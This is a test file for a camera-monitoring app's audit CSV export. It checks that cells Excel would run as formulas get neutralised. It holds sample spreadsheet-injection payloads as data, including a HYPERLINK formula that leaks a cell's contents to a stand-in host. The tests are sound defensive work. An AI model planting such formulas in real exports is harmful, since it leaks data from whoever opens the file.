import { describe, expect, it } from 'vitest';
import type { AuditRecordView } from '../../preload/api.js';
import { auditCsv } from './audit.js';

const record = (over: Partial<AuditRecordView>): AuditRecordView => ({
  seq: 1,
  at: Date.UTC(2024, 0, 2, 3, 4, 5),
  console: 'con-1',
  role: 'operator',
  action: 'view_start',
  cameraId: 'cam-1',
  cameraName: '村口',
  siteName: '青山村',
  reason: null,
  detail: null,
  ...over,
});

/** The CSV's cells, unquoted (enough for these tests: no cell holds a quoted comma). */
const cellsOf = (csv: string) =>
  csv
    .replace(/^\ufeff/, '')
    .split('\r\n')
    .filter(Boolean)
    .slice(1)
    .map((line) => line.split(',').map((cell) => cell.replace(/^"|"$/g, '').replace(/""/g, '"')));

describe('the audit CSV', () => {
  it('neutralises cells Excel would run as a formula (= + - @, tab, CR at the start)', () => {
    const typed = ['=HYPERLINK("http://x.example/?"&A1)', '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
    const csv = auditCsv(typed.map((reason, i) => record({ seq: i + 1, reason, cameraName: reason, siteName: reason })));
    const rows = cellsOf(csv);
    expect(rows).toHaveLength(typed.length);
    for (const [i, row] of rows.entries()) {
      const [, , , , , camera, site, reason] = row;
      for (const cell of [camera, site, reason]) {
        expect(cell, `row ${i + 1}`).toBe(`'${typed[i]}`);
      }
    }
  });

  it('leaves ordinary text, numbers and times as they are', () => {
    const [row] = cellsOf(auditCsv([record({ reason: '巡查 patrol', detail: 'source relay-rtsp' })]));
    expect(row).toEqual(['1', '2024-01-02T03:04:05.000Z', 'con-1', 'operator', 'view_start', '村口', '青山村', '巡查 patrol', 'source relay-rtsp']);
  });
});
